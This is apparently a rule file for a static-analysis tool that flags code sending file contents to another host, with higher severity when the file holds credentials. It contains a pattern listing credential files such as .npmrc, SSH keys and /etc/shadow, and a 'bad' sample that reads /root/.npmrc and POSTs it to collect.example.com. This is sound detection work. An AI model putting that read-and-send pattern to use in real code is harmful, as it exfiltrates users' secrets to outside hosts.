import { placeKey } from '../../model/places.ts';
import { defineRule } from '../define.ts';
import { flowHit, flowsOf } from '../support/flows.ts';

/** Files that hold what identifies this machine or its users elsewhere. */
const sensitive =
  /(?:^|[\\/.])(?:npmrc|yarnrc|netrc|pgpass|env(?:\.\w+)?|htpasswd|git-credentials|kube[\\/]config|aws[\\/]credentials|docker[\\/]config\.json|bash_history|ssh[\\/].*|id_(?:rsa|dsa|ecdsa|ed25519))$|\.(?:pem|key|p12|pfx|jks|kdbx)$|^[\\/]etc[\\/](?:passwd|shadow|hosts)|^[\\/]var[\\/]run[\\/]secrets/i;

export default defineRule({
  title: 'Content of a file in a request to another host',
  severity: 'medium',
  precision: 'medium',
  needs: ['sources'],
  tags: ['cwe-200', 'owasp-a01'],
  docs: {
    why: 'What a file holds leaves the machine: the other host, and its logs, have it from then on. Programs that steal tokens look just like this.',
    fix: 'Send only what the other host needs, never files with credentials, and only to hosts that the configuration names.',
    bad: `
import { readFileSync } from 'node:fs';
export async function report() {
  const settings = readFileSync('/root/.npmrc', 'utf8');
  await fetch('https://collect.example.com/', { method: 'POST', body: settings });
}
`,
    good: `
import { readFileSync } from 'node:fs';
export async function report() {
  const { length } = readFileSync('/var/log/app.log', 'utf8');
  await fetch('https://collect.example.com/', { method: 'POST', body: String(length) });
}
`,
  },
  messages: {
    secret: 'What {path} holds is sent to another host by {sink}().',
    content: 'The {source} is sent to another host by {sink}().',
  },
  check(model, report) {
    const reads = new Map(
      model.operations.flatMap((operation) =>
        operation.is === 'file' ? [[placeKey(operation.place), operation.target ?? ''] as const] : [],
      ),
    );
    for (const sink of flowsOf(model, 'sent', ({ source }) => source.kind === 'file')) {
      const hit = flowHit(sink);
      const { source = '', sink: api = '' } = hit.arguments ?? {};
      const path = reads.get(placeKey(sink.flow.source.location)) ?? '';
      if (sensitive.test(path))
        report({ message: 'secret', ...hit, severity: 'high', arguments: { path: `\`${path}\``, sink: api } });
      // files are uploaded all the time
      else report({ message: 'content', ...hit, confidence: 'low', arguments: { source, sink: api } });
    }
  },
});
